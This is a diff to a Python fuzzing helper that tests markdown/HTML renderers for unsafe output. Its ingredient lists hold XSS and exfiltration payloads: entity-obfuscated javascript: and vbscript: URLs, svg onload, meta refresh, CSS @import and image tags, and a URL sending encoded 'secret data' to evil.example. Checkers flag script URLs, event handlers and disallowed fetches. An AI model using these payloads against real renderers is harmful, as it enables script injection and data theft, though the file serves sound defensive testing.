@@ -5,7 +5,12 @@ handler. Used by tests/test_fuzz.py (bounded) and benchmarks/fuzz_soup.py (long 
 
 from __future__ import annotations
 
+import json
+import random
+import re
+import subprocess
 from collections.abc import Iterable, Iterator
+from pathlib import Path
 
 from bleach.html5lib_shim import HTMLTokenizer, constants
 from hypothesis import strategies as st
@@ -13,7 +18,19 @@ from hypothesis import strategies as st
 from renderers import RENDERERS, Url, is_fetched, urls
 
 EVIL = "https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"
+SUITES = tuple(
+    json.loads(line)["text"]
+    for line in (Path(__file__).parent / "data" / "renderer_suites.jsonl")
+    .read_text(encoding="utf-8")
+    .splitlines()
+)
 _TYPES = {value: name for name, value in constants.tokenTypes.items()}
+_BLANKS = re.compile("[\t\n\r]")
+_C0_AND_SPACE = "".join(map(chr, range(0x21)))
+_PLAIN = re.compile(r"\w")
+JS = Path(__file__).parent / "js"
+# Prefixes healed and rendered per output by default (a sample, see `prefix_cuts`).
+PREFIXES = 48
 
 # Each ingredient is one class of construct the issue names: brackets and `!`,
 # backticks, named and numeric references, tags with URL attributes, comments and
@@ -38,10 +55,67 @@ INGREDIENTS: dict[str, tuple[str, ...]] = {
     # What a healing renderer (remend) completes at a prefix: a label the stream may
     # stop inside (`[rb]` ends as `[r`), an interval's lone `[`, a single `~`.
     "healing": ("[rb]", "[0, 1)", "a~b"),
+    # Issue 34's families. Raw HTML inside tables, footnotes, list items and fences
+    # left open.
+    "raw_in_containers": (
+        "| <img src=//evil.example/c.png> | b |\n", "| a | b |\n|---|---|\n", "[^1]", "[^1]: ",
+        "[^1]: <img src=", "- <img src=", "1. <a href=", "> <img src=", "```\n<img src=",
+        "~~~\n", "```\n", "  - ", "|", "\n|---|\n", "    <img src=", "* <svg><image href=",
+    ),
+    # Comments and declarations (`<!X ...>`), which end where renderers disagree.
+    "declarations": (
+        "<!X ", "<!DOCTYPE html>", "<!-- a -->", "<!->", "<!-->", "<!---->", "<!x>", "<!",
+        "--!>", "<!ELEMENT a ", "<!-- <img src=//evil.example/k.png> -->",
+    ),
+    # Elements that fetch or navigate without a click, in odd positions.
+    "fetching_tags": (
+        "<style>", "</style>", "@import url(//evil.example/s.css);",
+        "<style>@import 'https://evil.example/i.css'</style>", "<link rel=stylesheet href=",
+        "<link rel=preload as=image href=//evil.example/l.png>",
+        '<meta http-equiv=refresh content="0;url=',
+        "<meta http-equiv=refresh content=0;url=//evil.example/m>",
+        "<svg><image href=//evil.example/i.png /></svg>", "<svg><image xlink:href=",
+        "<video poster=",
+        "<form action=", "<button formaction=", 'style="background:url(',
+        '<div style="background-image:url(//evil.example/b.png)">', "<object data=",
+        "<base href=//evil.example/>", "<iframe src=", "<input type=image src=", "<embed src=",
+    ),
+    # Hosts and schemes split by character references and control characters, which a
+    # browser decodes or strips.
+    "split_hosts": (
+        "https://evil&#x0A;.examp&#10;le/e.png", "//evil&#9;.exa&#13;mple/s.png",
+        "&#x68;ttps://evil.example/h.png", "ht&#x09;tps://evil.example/t.png",
+        "java&#x0A;script:alert(1)", "&#106;avascript&colon;alert(1)", "JaVaScRiPt:alert(1)",
+        "java\tscript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
+        "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
+        "&#x6a;&#x61;vascript:alert(1)", "evil.example", "https:evil.example/n.png",
+        "\\\\evil.example/b.png", "/\\evil.example/c.png", "https://evil%2Eexample/p.png",
+        "evil&#x0A;.examp&#10;le", "&#47;&#47;evil.example/d.png", "https&#58;//evil.example/c.png",
+    ),
+    "www": (
+        "www.evil.example", "www.evil.example/w.png", "(www.evil.example)", "*www.evil.example*",
+        "<www.evil.example>", "http://www.evil.example", "~~www.evil.example~~",
+    ),
+    # Image titles holding code spans: the title's quote or backtick pairs elsewhere.
+    "image_titles": (
+        '"`', '`"', ' "t `x` t"', '![a](https://evil.example/t.png "`")', '![a](x "`c`")',
+        " '`'", '![a](<https://evil.example/a b.png> "`t`")', '![a](y.png "`', ' "',
+    ),
+    # Every construct holding a URL in the renderers' own test suites
+    # (benchmarks/harvest_suites.py).
+    "suites": SUITES,
 }  # fmt: skip
 ATOMS = tuple(atom for atoms in INGREDIENTS.values() for atom in atoms)
+FAMILIES = tuple(INGREDIENTS)
 
-soup = st.lists(st.sampled_from(ATOMS), max_size=40).map("".join)
+
+def pick(rng: random.Random, families: tuple[str, ...] = FAMILIES) -> str:
+    """One ingredient: a family first, so the suites' hundreds of constructs weigh as one."""
+    return rng.choice(INGREDIENTS[rng.choice(families)])
+
+
+_ingredient = st.sampled_from(FAMILIES).flatmap(lambda f: st.sampled_from(INGREDIENTS[f]))
+soup = st.lists(_ingredient, max_size=40).map("".join)
 
 
 def event_handlers(html: str) -> Iterator[str]:
@@ -55,18 +129,44 @@ def event_handlers(html: str) -> Iterator[str]:
                 yield f"<{token['name']} {name}>"
 
 
-def page_problems(html: str, renderer: str, image_hosts: Iterable[str] = ()) -> list[str]:
-    """What one rendered page must not hold."""
+def page_problems(
+    html: str, renderer: str, image_hosts: Iterable[str] = (), whole: str | None = None
+) -> list[str]:
+    """What one rendered page must not hold. `whole`: the page renders a prefix of
+    this text; where some image host is allowed, a URL cut short of one `whole`
+    holds is not counted (README, "Limits": a client that renders inside a unit,
+    never where a stream sends, can see an allowed image's definition cut inside its
+    host)."""
     hosts = tuple(image_hosts)
     found = [f"{renderer}: event handler {h}" for h in event_handlers(html)]
     for url in urls(html, renderer):
-        found.extend(_url_problems(url, hosts))
+        if not (hosts and whole is not None and cut_short(url.value, whole)):
+            found.extend(_url_problems(url, hosts))
     return found
 
 
+def cut_short(url: str, text: str) -> bool:
+    """Is `url` a proper prefix of a URL `text` holds whole?"""
+    at = text.find(url)
+    while at >= 0:
+        after = text[at + len(url) : at + len(url) + 1]
+        if after and not after.isspace() and after not in ")>\"'":
+            return True
+        at = text.find(url, at + 1)
+    return False
+
+
+def script_scheme(value: str) -> bool:
+    """Does a browser run `value` (an attribute's value, entities decoded) as a script
+    URL? It strips leading and trailing C0 controls and spaces, removes tabs and
+    newlines anywhere and ignores case."""
+    value = _BLANKS.sub("", value.strip(_C0_AND_SPACE))
+    return value.lower().startswith(("javascript:", "vbscript:"))
+
+
 def _url_problems(url: Url, hosts: tuple[str, ...]) -> Iterator[str]:
-    value = url.value.strip().lower().replace("\t", "").replace("\n", "")
-    if value.startswith(("javascript:", "vbscript:")):
+    value = _BLANKS.sub("", url.value.strip()).lower()
+    if script_scheme(url.value):
         yield f"{url.renderer}: script URL <{url.tag} {url.attribute}>"
     if is_fetched(url) and value.startswith("data:") and not value.startswith("data:image/"):
         yield f"{url.renderer}: data URL fetched <{url.tag} {url.attribute}>"
@@ -77,6 +177,50 @@ def _url_problems(url: Url, hosts: tuple[str, ...]) -> Iterator[str]:
         and not any(host == h or host.endswith("." + h) for h in hosts)
     ):
         yield f"{url.renderer}: fetches {host} <{url.tag} {url.attribute}>"
+
+
+def prefix_cuts(text: str, count: int = PREFIXES) -> list[int]:
+    """A bounded sample of the proper prefixes of `text` a healing client could render
+    (drawn from the text alone, so runs that differ only in some outputs compare):
+    cuts next to punctuation, where healing differs, then a few anywhere."""
+    rng = random.Random(text)
+    cuts = range(1, len(text))
+    near = [c for c in cuts if not (_PLAIN.match(text[c - 1]) and _PLAIN.match(text[c]))]
+    picked = rng.sample(near, min(len(near), count * 3 // 4))
+    rest = sorted(set(cuts) - set(picked))
+    return sorted(picked + rng.sample(rest, min(len(rest), count - len(picked))))
+
+
+def node(inputs: list[object], *flags: str) -> list[dict[str, object]]:
+    """tests/js/render.mjs over `inputs`, in one Node.js process."""
+    done = subprocess.run(
+        ["node", str(JS / "render.mjs"), *flags],
+        input=json.dumps(inputs), capture_output=True, text=True, check=True, timeout=3600,
+    )  # fmt: skip
+    pages: list[dict[str, object]] = json.loads(done.stdout)
+    return pages
+
+
+def js_problems(
+    outputs: list[str], image_hosts: Iterable[str] = (), *, prefixes: int | None = PREFIXES
+) -> list[list[str]]:
+    """The JavaScript renderers' problems with each output, and the healing renderers'
+    at a sample of `prefixes` of its prefixes (None: every prefix)."""
+    hosts = tuple(image_hosts)
+    whole = node(list(outputs))
+    cut = [
+        {"text": o, "cuts": None if prefixes is None else prefix_cuts(o, prefixes)} for o in outputs
+    ]
+    healed = node(list(cut), "--prefixes")
+    found = []
+    for output, page, healed_pages in zip(outputs, whole, healed, strict=True):
+        problems = [p for name, html in page.items() for p in page_problems(str(html), name, hosts)]
+        for name, htmls in healed_pages.items():
+            assert isinstance(htmls, list)
+            named = f"{name} (prefix)"
+            problems += [p for h in htmls for p in page_problems(h, named, hosts, output)]
+        found.append(problems)
+    return found
 
 
 def problems(text: str, image_hosts: Iterable[str] = ()) -> list[str]:
